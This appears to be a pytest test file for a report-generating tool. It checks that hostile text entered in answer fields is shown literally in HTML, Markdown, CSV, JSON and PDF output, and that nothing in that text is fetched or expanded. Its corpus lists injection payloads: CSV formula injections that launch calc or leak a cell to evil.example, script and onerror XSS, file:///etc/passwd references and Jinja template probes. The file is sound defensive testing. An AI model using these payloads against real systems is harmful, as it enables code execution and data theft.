"""Hostile text in every free-text field reads literally in every report format.

Each text of the corpus goes into the service name, organisation, respondent, a text answer,
an n/a reason, evidence and a note at once. Reports must show it as text: HTML and Markdown
(rendered) have exactly the structure they have for plain words, nothing is fetched, templates
and placeholders are not expanded, and CSV cells cannot start a spreadsheet formula.
"""
from __future__ import annotations

import csv
import io
import json
import shutil
import socket
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from assess.cli import app

from conftest import MINI, ROOT

CORPUS = {
    "formula =": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "img file": "<img src=file:///etc/passwd>",
    "img http": '<img src="http://127.0.0.1:9/pixel.png" onerror="alert(1)">',
    "script": "<script>document.title='owned'</script>",
    "style": "<style>@import url(http://127.0.0.1:9/a.css); body { background: url(file:///etc/passwd) }</style>",
    "css import": "@import url(http://127.0.0.1:9/b.css); url(file:///etc/passwd)",
    "link": '<link rel="stylesheet" href="http://127.0.0.1:9/c.css">',
    "attribute break-out": '"><iframe src="file:///etc/passwd"></iframe><b x="',
    "jinja expression": "{{ 7*7 }} {{ config }} {{ ''.__class__ }}",
    "jinja statement": "{% for x in range(3) %}loop{% endfor %}{# hidden #}",
    "placeholders": "{answer:owner} {meta:service} {answer:x} {meta:x} {fact:x}",
    "markdown": "# Heading [link](http://evil.example) ![img](http://127.0.0.1:9/x.png) **bold** | cell | `code`",
    "markdown list": "1. first - second > quote",
    "entities": "&lt;b&gt; &amp; &#60;script&#62; &nbsp;",
    "bidi isolated": "\u2067\u05e9\u05dc\u05d5\u05dd\u2069 and \u202bembedded\u202c",
    "plain": "Plain words",
}
PLAIN = CORPUS["plain"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def answers_text(text: str) -> str:
    q = json.dumps(text)   # a JSON string is a YAML double-quoted scalar
    return (f"assessment:\n  framework: mini\n  service: {q}\n  organisation: {q}\n  scope: whole\n  phase: live\n"
            f"  respondent: {q}\n  date: 2026-11-28\n"
            "answers:\n  org_count: 5\n  owner: named\n  decision_rights: \"no\"\n  funding_model: project\n"
            f"  pooled_budget: {{n/a: {q}}}\n  comment: {q}\n  forum: informal\n  anchor: \"no\"\n"
            f"evidence:\n  owner: [{q}, {json.dumps('second ' + text)}]\nnotes:\n  forum: {q}\n")


def assess(*args: str) -> None:
    code = app(list(args), standalone_mode=False)
    assert code in (0, None), (args, code)


def report(tmp_path: Path, text: str, fmt: str, name: str = "answers") -> bytes:
    path = tmp_path / f"{name}.yaml"
    path.write_text(answers_text(text), encoding="utf-8")
    out = tmp_path / f"{name}.{fmt}"
    assess("report", str(path), "-F", str(MINI), "--format", fmt, "-o", str(out))
    return out.read_bytes()


class Structure(HTMLParser):
    """Tags with their attributes, and the text, of an HTML document."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag == "wbr":
            return   # a line-break opportunity the report puts into long runs of typed text
        # a long service name sets a smaller heading: a fixed class picked by length, not text in an attribute
        attrs = [(k, v.replace(" long-name", "") if k == "class" and v else v) for k, v in attrs]
        self.tags.append((tag, tuple(sorted(attrs))))

    def handle_data(self, data):
        self.text.append(data)

    def joined(self) -> str:
        return " ".join("".join(self.text).split())


def same_structure(hostile: str, plain: str, text: str) -> None:
    h, p = Structure(hostile), Structure(plain)
    assert [t for t, _ in h.tags] == [t for t, _ in p.tags], "the text added or removed elements"
    assert h.tags == [(t, tuple((k, v.replace(PLAIN, text) if v else v) for k, v in a)) for t, a in p.tags], \
        "the text changed an attribute"
    assert " ".join(text.split()) in h.joined(), "the text is not shown as it was typed"


@pytest.fixture(scope="module")
def plain_reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("plain")
    return {fmt: report(folder, PLAIN, fmt) for fmt in ("html", "md", "csv", "json")}


@pytest.mark.parametrize("name", [n for n in CORPUS if n != "plain"])
def test_html_shows_the_text_and_nothing_else(tmp_path, plain_reports, name):
    text = CORPUS[name]
    same_structure(report(tmp_path, text, "html").decode(), plain_reports["html"].decode(), text)


@pytest.mark.parametrize("name", [n for n in CORPUS if n != "plain"])
def test_markdown_renders_to_the_text_and_nothing_else(tmp_path, plain_reports, name):
    from markdown_it import MarkdownIt
    from assess.reports.bidi import strip_controls
    text = CORPUS[name]
    render = MarkdownIt("commonmark").enable("table").render
    hostile = report(tmp_path, text, "md").decode()
    # Markdown has no isolation, so direction controls are dropped there (assess/reports/bidi.py)
    same_structure(render(hostile), render(plain_reports["md"].decode()), strip_controls(text))


@pytest.mark.parametrize("name", [n for n in CORPUS if n != "plain"])
def test_csv_cells_cannot_start_a_formula(tmp_path, name):
    text = CORPUS[name]
    rows = list(csv.reader(io.StringIO(report(tmp_path, text, "csv").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    # the finding whose rationale starts with the service name carries the text, quoted if needed
    rationale = next(row[6] for row in rows[1:] if row[0] == "mini-unanchored-finding")
    assert rationale.startswith(("'" + text) if text.startswith(FORMULA_START) else text)


@pytest.mark.parametrize("name", [n for n in CORPUS if n != "plain"])
def test_json_keeps_the_text_exactly(tmp_path, name):
    text = CORPUS[name]
    result = json.loads(report(tmp_path, text, "json"))
    meta = result["assessment"]
    assert (meta["service"], meta["organisation"], meta["respondent"]) == (text, text, text)
    rationale = next(f["rationale"] for f in result["findings"] if f["rule"] == "mini-unanchored-finding")
    assert rationale.startswith(text + " spans 5 organisations")   # filled in once, never re-expanded


def test_tabs_and_carriage_returns_at_the_start_of_a_cell_are_neutralised(mini):
    """The loader refuses these characters in single-line fields; the CSV writer quotes them anyway."""
    from assess.answers import load_answers
    from assess.pipeline import evaluate
    from assess.reports import render
    assessment = load_answers(MINI / "whole.yaml", [MINI])
    for start in ("\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@1"):
        assessment.meta.service = start + " service"
        assessment.meta.scope = "whole"
        rows = list(csv.reader(io.StringIO(render(evaluate(assessment), "csv").decode())))
        rationale = next(row[6] for row in rows[1:] if row[0] == "mini-unanchored-finding")
        assert rationale.startswith("'" + start + " service spans 5 organisations")


# ---------------------------------------------------------------- PDF: nothing fetched, text as typed

PDF_CASES = {
    "markup and templates": "<img src=file:///etc/passwd> {{ 7*7 }} {answer:owner}",
    "stylesheets": '<style>@import url(http://127.0.0.1:9/a.css);</style><link rel="stylesheet" href="http://127.0.0.1:9/c.css">',
}


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs pdftotext (poppler-utils)")
@pytest.mark.parametrize("name", sorted(PDF_CASES))
def test_pdf_fetches_only_its_own_assets_and_shows_the_text(tmp_path, monkeypatch, name):
    from assess.reports import fetcher as fetcher_module
    from assess.reports.templates import base_dir
    text = PDF_CASES[name]
    fetched, connections = [], []
    real_fetch = fetcher_module.SafeFetcher.fetch

    def spy(self, url, headers=None):
        fetched.append(url)
        return real_fetch(self, url, headers)

    def no_network(self, address):
        connections.append(address)
        raise OSError("no network in this test")
    monkeypatch.setattr(fetcher_module.SafeFetcher, "fetch", spy)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    pdf = tmp_path / "answers.pdf"
    report(tmp_path, text, "pdf")
    own = [base_dir().resolve(), (ROOT / "report_templates").resolve(), MINI.resolve()]
    for url in fetched:
        assert url.startswith("file://") and any(Path(url[len("file://"):]).resolve().is_relative_to(d) for d in own), url
    assert connections == []
    # the spy does see what WeasyPrint asks for: raw markup (never made from answers) is fetched and refused
    from assess.reports.pdf import html_to_pdf
    html_to_pdf('<p><img src="file:///etc/passwd"><img src="http://127.0.0.1:9/x.png"></p>')
    assert fetched[-2:] == ["file:///etc/passwd", "http://127.0.0.1:9/x.png"] and connections == []
    shown = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, timeout=60).stdout
    words = " ".join(shown.split())
    assert " ".join(text.split()) in words


# ---------------------------------------------------------------- portfolio

def portfolio(tmp_path: Path, texts: list[str], fmt: str, name: str) -> bytes:
    folder = tmp_path / name
    folder.mkdir()
    for i, text in enumerate(texts):
        (folder / f"{i:02}.yaml").write_text(answers_text(text), encoding="utf-8")
    out = tmp_path / f"{name}.{fmt}"
    assess("portfolio", str(folder), "-F", str(MINI), "--format", fmt, "-o", str(out), "--as-of", "2026-12-01",
           "--workers", "1")
    return out.read_bytes()


HOSTILE = [t for n, t in CORPUS.items() if n != "plain"]


def test_portfolio_csv_cells_cannot_start_a_formula(tmp_path):
    rows = list(csv.reader(io.StringIO(portfolio(tmp_path, HOSTILE, "csv", "hostile").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'" + CORPUS["formula ="] in cells


def links(structure: Structure) -> list[str]:
    """Every address the page could load or open, other than links within it."""
    return sorted(v for _, attrs in structure.tags for k, v in attrs if k in ("src", "href") and v and not v.startswith("#"))


def test_portfolio_html_shows_service_names_as_text(tmp_path):
    hostile = Structure(portfolio(tmp_path, HOSTILE, "html", "hostile").decode())
    plain = Structure(portfolio(tmp_path, [f"{PLAIN} {i}" for i in range(len(HOSTILE))], "html", "plain").decode())
    assert sorted(t for t, _ in hostile.tags) == sorted(t for t, _ in plain.tags), "a name added or removed elements"
    assert links(hostile) == links(plain)
    for text in HOSTILE:
        assert " ".join(text.split()) in hostile.joined()
